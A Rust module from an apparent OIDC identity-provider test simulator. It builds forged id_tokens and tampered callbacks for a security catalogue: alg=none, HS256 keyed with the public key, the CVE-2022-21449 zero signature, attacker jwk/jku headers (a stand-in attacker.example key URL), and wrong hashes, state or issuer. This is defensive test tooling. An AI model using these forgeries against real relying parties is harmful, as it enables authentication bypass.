//! Attack transforms for the OIDC rows of the security catalogue
//! (shared/reference/catalogue.md, OIDC-*): what a hostile OP, or someone on its path, makes of
//! an id_token, the authorization callback or the discovery document.
//!
//! Each [`OidcAttack`] acts at one [`Stage`]:
//! - [`Stage::Token`]: [`apply`] rewrites a signed id_token (header, signature, hash claims),
//!   re-signing with a key from the [`TokenContext`] where the attack needs a valid signature.
//!   Some also need the OP's published key set to change first ([`OidcAttack::key_set_change`]);
//!   the OP does that, since it is state.
//! - [`Stage::Authorize`]: [`callback_state`] gives the `state` the callback carries.
//! - [`Stage::Discovery`]: [`discovery`] changes the discovery document.
//!
//! Claim mutations (iss, aud, azp, sub, iat, exp, nonce), a userinfo `sub` that differs, error
//! callbacks and Entra's groups overage are not transforms: the OP's overrides set them.
//! docs/attacks.md maps every row.

use super::{alg_for, decode_unverified, left_half_hash, Decoded, JoseError, Jwk};
use crate::keys::{KeyKind, SigningKey};
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use base64::Engine;
use serde::{Deserialize, Serialize};
use serde_json::{Map, Value};

/// The key URL of [`OidcAttack::HeaderJku`] when the caller names none.
pub const DEFAULT_JKU: &str = "https://attacker.example/.well-known/jwks.json";
/// What [`OidcAttack::WrongAtHash`] and [`OidcAttack::WrongCHash`] hash instead of the real
/// token or code.
pub const WRONG_HASH_INPUT: &str = "idpsim-not-the-real-value";

/// One attack per OIDC row that needs more than a claim override. Serialised in kebab case:
/// `"alg-none"`, `"hs256-public-key"`, ...
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum OidcAttack {
    /// OIDC-SIG-1: one bit of the signature flipped.
    CorruptSignature,
    /// OIDC-SIG-2: `alg` set to `none` and the signature removed (kid and typ kept).
    AlgNone,
    /// OIDC-SIG-3: `alg` HS256 (kid kept), the HMAC keyed with the OP's public key in PEM.
    Hs256PublicKey,
    /// OIDC-SIG-4: `alg` ES256 (kid of a published EC key when there is one) and a signature of
    /// 64 zero bytes (CVE-2022-21449).
    PsychicSignature,
    /// OIDC-SIG-5: signed by the attacker's key, which the header carries as `jwk` (no kid).
    HeaderJwk,
    /// OIDC-SIG-5: signed by the attacker's key under its own kid, the header's `jku` naming
    /// the attacker's key set.
    HeaderJku,
    /// OIDC-KID-1: no kid, the OP publishing only its active key.
    NoKidSingleKey,
    /// OIDC-KID-2: no kid, the OP publishing several keys.
    NoKidSeveralKeys,
    /// OIDC-KID-3: signed by a key the OP rotates in as the token is issued, so an RP holding
    /// an earlier JWKS meets an unknown kid and must fetch again.
    UnknownKidRotated,
    /// OIDC-HASH-1: `at_hash` of another value, validly signed.
    WrongAtHash,
    /// OIDC-HASH-1: a `c_hash` of another value, validly signed.
    WrongCHash,
    /// OIDC-STATE-1: the callback's `state` altered.
    StateAltered,
    /// OIDC-STATE-1: the callback without `state`.
    StateMissing,
    /// OIDC-DISC-1: the discovery document's `issuer` is not the configured one (the OP's issuer
    /// plus `/attacker`).
    DiscoveryIssuerMismatch,
}

/// Where an attack acts.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Stage {
    Discovery,
    Authorize,
    Token,
}

/// What the OP must do to its published key set before the token is signed.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum KeySetChange {
    None,
    /// Stop publishing every key but the active one.
    RetireInactive,
    /// Make sure at least two keys are published (publish a fresh, inactive one if needed).
    PublishAnother,
    /// Publish a fresh key and sign with it from now on; the old keys stay listed.
    Rotate,
}

impl OidcAttack {
    pub const ALL: [OidcAttack; 14] = [
        Self::CorruptSignature,
        Self::AlgNone,
        Self::Hs256PublicKey,
        Self::PsychicSignature,
        Self::HeaderJwk,
        Self::HeaderJku,
        Self::NoKidSingleKey,
        Self::NoKidSeveralKeys,
        Self::UnknownKidRotated,
        Self::WrongAtHash,
        Self::WrongCHash,
        Self::StateAltered,
        Self::StateMissing,
        Self::DiscoveryIssuerMismatch,
    ];

    /// The serialised name (`"alg-none"`).
    pub fn name(self) -> &'static str {
        match self {
            Self::CorruptSignature => "corrupt-signature",
            Self::AlgNone => "alg-none",
            Self::Hs256PublicKey => "hs256-public-key",
            Self::PsychicSignature => "psychic-signature",
            Self::HeaderJwk => "header-jwk",
            Self::HeaderJku => "header-jku",
            Self::NoKidSingleKey => "no-kid-single-key",
            Self::NoKidSeveralKeys => "no-kid-several-keys",
            Self::UnknownKidRotated => "unknown-kid-rotated",
            Self::WrongAtHash => "wrong-at-hash",
            Self::WrongCHash => "wrong-c-hash",
            Self::StateAltered => "state-altered",
            Self::StateMissing => "state-missing",
            Self::DiscoveryIssuerMismatch => "discovery-issuer-mismatch",
        }
    }

    /// The catalogue row this attack belongs to.
    pub fn catalogue_id(self) -> &'static str {
        match self {
            Self::CorruptSignature => "OIDC-SIG-1",
            Self::AlgNone => "OIDC-SIG-2",
            Self::Hs256PublicKey => "OIDC-SIG-3",
            Self::PsychicSignature => "OIDC-SIG-4",
            Self::HeaderJwk | Self::HeaderJku => "OIDC-SIG-5",
            Self::NoKidSingleKey => "OIDC-KID-1",
            Self::NoKidSeveralKeys => "OIDC-KID-2",
            Self::UnknownKidRotated => "OIDC-KID-3",
            Self::WrongAtHash | Self::WrongCHash => "OIDC-HASH-1",
            Self::StateAltered | Self::StateMissing => "OIDC-STATE-1",
            Self::DiscoveryIssuerMismatch => "OIDC-DISC-1",
        }
    }

    pub fn stage(self) -> Stage {
        match self {
            Self::StateAltered | Self::StateMissing => Stage::Authorize,
            Self::DiscoveryIssuerMismatch => Stage::Discovery,
            _ => Stage::Token,
        }
    }

    pub fn key_set_change(self) -> KeySetChange {
        match self {
            Self::NoKidSingleKey => KeySetChange::RetireInactive,
            Self::NoKidSeveralKeys => KeySetChange::PublishAnother,
            Self::UnknownKidRotated => KeySetChange::Rotate,
            _ => KeySetChange::None,
        }
    }

    /// Whether the attack signs with a key of its own choosing (so a chosen signing key would
    /// be ignored).
    pub fn chooses_key(self) -> bool {
        matches!(
            self,
            Self::HeaderJwk | Self::HeaderJku | Self::UnknownKidRotated
        )
    }
}

impl std::fmt::Display for OidcAttack {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.name())
    }
}

/// The keys and values a token attack may need.
#[derive(Clone, Copy, Debug)]
pub struct TokenContext<'a> {
    /// The OP key that signed the token: re-signs after header or claim edits, and its public
    /// PEM is the HS256 secret.
    pub key: &'a SigningKey,
    /// The attacker's key ([`OidcAttack::HeaderJwk`], [`OidcAttack::HeaderJku`]).
    pub foreign_key: Option<&'a SigningKey>,
    /// The key just rotated in ([`OidcAttack::UnknownKidRotated`]).
    pub rotated_key: Option<&'a SigningKey>,
    /// The kid of a published EC key, for [`OidcAttack::PsychicSignature`].
    pub ec_kid: Option<&'a str>,
    /// The `jku` of [`OidcAttack::HeaderJku`].
    pub jku: &'a str,
}

impl<'a> TokenContext<'a> {
    /// A context with only the OP's key.
    pub fn new(key: &'a SigningKey) -> Self {
        Self {
            key,
            foreign_key: None,
            rotated_key: None,
            ec_kid: None,
            jku: DEFAULT_JKU,
        }
    }
}

#[derive(Debug, thiserror::Error)]
pub enum AttackError {
    #[error("{attack} does not act on the id_token")]
    NotATokenAttack { attack: OidcAttack },
    #[error("{attack} needs {key}, and the context has none")]
    MissingKey {
        attack: OidcAttack,
        key: &'static str,
    },
    #[error("{attack}: {source}")]
    Jose {
        attack: OidcAttack,
        #[source]
        source: JoseError,
    },
}

/// Rewrite the signed id_token `token` for `attack`.
pub fn apply(
    attack: OidcAttack,
    token: &str,
    ctx: &TokenContext<'_>,
) -> Result<String, AttackError> {
    use OidcAttack::*;
    let jose = |source| AttackError::Jose { attack, source };
    let missing = |key| AttackError::MissingKey { attack, key };
    let Decoded {
        mut header,
        mut claims,
        signature,
        ..
    } = decode_unverified(token).map_err(jose)?;
    let out = match attack {
        CorruptSignature => {
            let mut sig = signature;
            let mid = sig.len() / 2;
            if let Some(b) = sig.get_mut(mid) {
                *b ^= 0x01;
            }
            join(&header, &claims, &sig)
        }
        AlgNone => {
            header.insert("alg".into(), "none".into());
            join(&header, &claims, &[])
        }
        Hs256PublicKey => {
            header.insert("alg".into(), "HS256".into());
            let input = signing_input(&header, &claims);
            let secret = ctx
                .key
                .public_pem()
                .map_err(|e| jose(JoseError::Signing(format!("public key of the OP: {e}"))))?;
            let mac = hmac_sha256(secret.as_bytes(), input.as_bytes()).map_err(jose)?;
            finish(input, &mac)
        }
        PsychicSignature => {
            header.insert("alg".into(), "ES256".into());
            if let Some(kid) = ctx.ec_kid {
                header.insert("kid".into(), kid.into());
            }
            join(&header, &claims, &[0; 64])
        }
        HeaderJwk => {
            let key = ctx.foreign_key.ok_or(missing("the attacker's key"))?;
            let jwk = Jwk::from_key(key, false).map_err(jose)?;
            header.remove("kid");
            header.insert("jwk".into(), serde_json::to_value(jwk).unwrap_or_default());
            sign_as(key, header, &claims).map_err(jose)?
        }
        HeaderJku => {
            let key = ctx.foreign_key.ok_or(missing("the attacker's key"))?;
            header.insert("kid".into(), key.kid().into());
            header.insert("jku".into(), ctx.jku.into());
            sign_as(key, header, &claims).map_err(jose)?
        }
        NoKidSingleKey | NoKidSeveralKeys => {
            header.remove("kid");
            sign_as(ctx.key, header, &claims).map_err(jose)?
        }
        UnknownKidRotated => {
            let key = ctx.rotated_key.ok_or(missing("the rotated key"))?;
            header.insert("kid".into(), key.kid().into());
            if claims.contains_key("at_hash") && key.kind() != ctx.key.kind() {
                return Err(jose(JoseError::Signing(
                    "the rotated key must be of the signing key's kind (at_hash)".into(),
                )));
            }
            sign_as(key, header, &claims).map_err(jose)?
        }
        WrongAtHash | WrongCHash => {
            let claim = if attack == WrongAtHash {
                "at_hash"
            } else {
                "c_hash"
            };
            claims.insert(
                claim.into(),
                left_half_hash(WRONG_HASH_INPUT, alg_for(ctx.key.kind())).into(),
            );
            sign_as(ctx.key, header, &claims).map_err(jose)?
        }
        StateAltered | StateMissing | DiscoveryIssuerMismatch => {
            return Err(AttackError::NotATokenAttack { attack })
        }
    };
    Ok(out)
}

/// The `state` the authorization callback carries under `attack` (the request's otherwise).
pub fn callback_state(attack: Option<OidcAttack>, state: Option<&str>) -> Option<String> {
    match attack {
        Some(OidcAttack::StateMissing) => None,
        Some(OidcAttack::StateAltered) => Some(match state {
            Some(s) => format!("{s}-tampered"),
            None => "idpsim-tampered".into(),
        }),
        _ => state.map(str::to_string),
    }
}

/// Change the discovery document under `attack`.
pub fn discovery(attack: Option<OidcAttack>, doc: &mut Value) {
    if attack != Some(OidcAttack::DiscoveryIssuerMismatch) {
        return;
    }
    if let Some(obj) = doc.as_object_mut() {
        let issuer = obj
            .get("issuer")
            .and_then(Value::as_str)
            .unwrap_or_default()
            .trim_end_matches('/')
            .to_string();
        obj.insert("issuer".into(), format!("{issuer}/attacker").into());
    }
}

fn b64_json(m: &Map<String, Value>) -> String {
    // A map of JSON values always serialises.
    URL_SAFE_NO_PAD.encode(serde_json::to_vec(m).unwrap_or_default())
}

fn signing_input(header: &Map<String, Value>, claims: &Map<String, Value>) -> String {
    format!("{}.{}", b64_json(header), b64_json(claims))
}

fn finish(mut input: String, sig: &[u8]) -> String {
    input.push('.');
    input.push_str(&URL_SAFE_NO_PAD.encode(sig));
    input
}

fn join(header: &Map<String, Value>, claims: &Map<String, Value>, sig: &[u8]) -> String {
    finish(signing_input(header, claims), sig)
}

/// Sign with `key` under `header` as given, `alg` set to the key's.
fn sign_as(
    key: &SigningKey,
    mut header: Map<String, Value>,
    claims: &Map<String, Value>,
) -> Result<String, JoseError> {
    header.insert("alg".into(), format!("{:?}", alg_for(key.kind())).into());
    let input = signing_input(&header, claims);
    let alg = match key.kind() {
        KeyKind::Rsa => crate::saml::SignatureAlgorithm::RsaSha256,
        KeyKind::Ec => crate::saml::SignatureAlgorithm::EcdsaSha256,
    };
    let sig = crate::saml::dsig::sign_bytes(key, alg, input.as_bytes())
        .map_err(|e| JoseError::Signing(e.to_string()))?;
    Ok(finish(input, &sig))
}

fn hmac_sha256(secret: &[u8], data: &[u8]) -> Result<Vec<u8>, JoseError> {
    let err = |e: openssl::error::ErrorStack| JoseError::Signing(e.to_string());
    let key = openssl::pkey::PKey::hmac(secret).map_err(err)?;
    let mut signer =
        openssl::sign::Signer::new(openssl::hash::MessageDigest::sha256(), &key).map_err(err)?;
    signer.update(data).map_err(err)?;
    signer.sign_to_vec().map_err(err)
}

#[cfg(test)]
mod tests;
